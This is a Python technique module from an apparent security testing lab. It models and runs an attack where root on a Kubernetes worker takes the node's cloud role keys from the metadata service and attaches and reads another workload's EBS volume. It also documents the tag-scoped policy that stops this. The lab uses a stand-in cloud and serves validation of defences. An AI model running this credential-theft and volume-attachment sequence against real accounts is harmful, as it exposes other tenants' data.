"""Attach the volume of another workload with the identity of a machine, and read it.

A node needs a role at its cloud to attach the volumes of its own pods. If the role may attach any
volume of the account, an attacker who has the role reads the data of every workload, also of one
that runs on another machine or in another cluster. The attacker is root on a worker, where the
metadata always answers. They list the volumes, attach one of another workload to their own machine,
read it and detach it. A policy that names the tag of the volumes stops it. The cloud of the lab is
a stand-in: it serves the content of an attached volume in place of a disk.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import yaml

from labkit.cluster import Environment
from labkit.errors import ProbeError
from labkit.lab.traces import leaving
from labkit.model import Foothold, Model
from labkit.model.clouds import cloud_of
from labkit.model.decision import ALLOWED
from labkit.techniques._lib.machines.cloud import (
    DEVICE,
    Keys,
    Volume,
    attachment,
    call_api,
    instance,
    named_volume,
    read_volume,
    required_cloud,
    role_keys,
    session_token,
)
from labkit.techniques._lib.machines.reach import Answer, run
from labkit.techniques._lib.technique import (
    ROOT_ON_WORKER,
    Prediction,
    Technique,
    all_of,
    holds,
)
from labkit.techniques._lib.verdict import Setting, Verdict, decided

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

#: The volume of another workload, and that of the attacker's own machine.
OTHERS, OWN = "payments-data", "shop-data"
DENIED = "HTTP 403 UnauthorizedOperation"


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict from the policy of the machines' role."""
    cloud = cloud_of(model.environment)
    if cloud is None:
        return Prediction(False, ("no machine of the environment is a cloud's",))
    if cloud.account is None:
        source = cloud.component.setting("account").source
        return Prediction(None, (f"the account could not be read: {source}",))
    who = f"role/{cloud.account.role}"
    listed = cloud.account.may(who, "ec2:DescribeVolumes")
    attached = cloud.account.may(who, "ec2:AttachVolume", OTHERS)
    return all_of(holds(attached, ALLOWED), holds(listed, ALLOWED))


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Attach the volume to the attacker's own machine with its role, and read it.

    Raises
    ------
    ProbeError
        An answer is neither a success nor a known refusal, or the content is not the volume's.
    """
    token = session_token(lab, foothold)
    keys = role_keys(lab, foothold, token)
    if not isinstance(keys, Keys):
        raise ProbeError(f"root of the machine gets no keys of its role: {keys.refusal}")
    machine = instance(lab, foothold, token)
    listed = call_api(lab, foothold, keys, "ec2", "DescribeVolumes")
    volume = named_volume(listed, OTHERS)
    asked = f"asked to attach {OTHERS} with the role of the machine"
    got = _attached_and_read(lab, foothold, keys, volume, machine)
    if not got.refusal:
        if got.body != _content(lab, OTHERS):
            raise ProbeError(f"{TECHNIQUE.name}: what was read is not {OTHERS}")
        read = f"read {len(got.body)} bytes: the content of {OTHERS}; the cloud is a stand-in"
        return Verdict(TECHNIQUE.name, lab.mode, foothold, True, "HTTP 200", (asked, read))
    if got.refusal != DENIED:
        raise ProbeError(f"{TECHNIQUE.name}: {got.refusal} is no known refusal")
    own = _attached_and_read(lab, foothold, keys, named_volume(listed, OWN), machine)
    if own.refusal or own.body != _content(lab, OWN):
        raise ProbeError(f"the role cannot read {OWN} either: {own.refusal or 'other content'}")
    control = f"the same role attaches {OWN}, and reads it"
    evidence = (asked, "the cloud is a stand-in")
    return Verdict(TECHNIQUE.name, lab.mode, foothold, False, DENIED, evidence, control)


def _attached_and_read(
    lab: Lab, foothold: Foothold, keys: Keys, volume: Volume, machine: str
) -> Answer:
    """Attach a volume, read it and detach it; return the content, or what refuses it."""
    with leaving(lab, attachment(lab, volume.name)):
        asked = {"VolumeId": volume.number, "InstanceId": machine, "Device": DEVICE}
        answer = call_api(lab, foothold, keys, "ec2", "AttachVolume", **asked)
        return answer if answer.refusal else read_volume(lab, foothold, volume)


def _content(lab: Lab, name: str) -> bytes:
    """Return what a volume holds, from the file of the account."""
    cloud = required_cloud(lab.environment).component
    path = cloud.setting("account").value
    told: Any = yaml.safe_load(run(lab, cloud.node, ["cat", path], check=True).stdout)
    return next(str(it["data"]).encode() for it in told["volumes"] if it["name"] == name)


def _settings(env: Environment) -> list[Setting]:
    cloud = cloud_of(env)
    if cloud is None or cloud.account is None:
        return []
    claim = cloud.account.may(f"role/{cloud.account.role}", "ec2:AttachVolume", OTHERS)
    return [decided(f"may a machine attach {OTHERS}", claim)]


TECHNIQUE = Technique(
    name="cloud-volume",
    title="Attach the volume of another workload, and read it",
    footholds=(ROOT_ON_WORKER,),
    grants=(),
    about="",
    properties=(),
    attack=("T1078.004", "T1552.005"),
    stride=("information disclosure", "elevation of privilege"),
    cwe=("CWE-250", "CWE-653"),
    sources=(
        "https://docs.aws.amazon.com/IAM/latest/UserGuide/access_tags.html",
        "https://kubernetes.io/docs/concepts/security/multi-tenancy/",
    ),
    predict=predict,
    execute=execute,
    settings=_settings,
    leaves=("volume attachment",),
    machines=("cloud",),
    modes=("cloud-insecure", "cloud-hardened"),
)
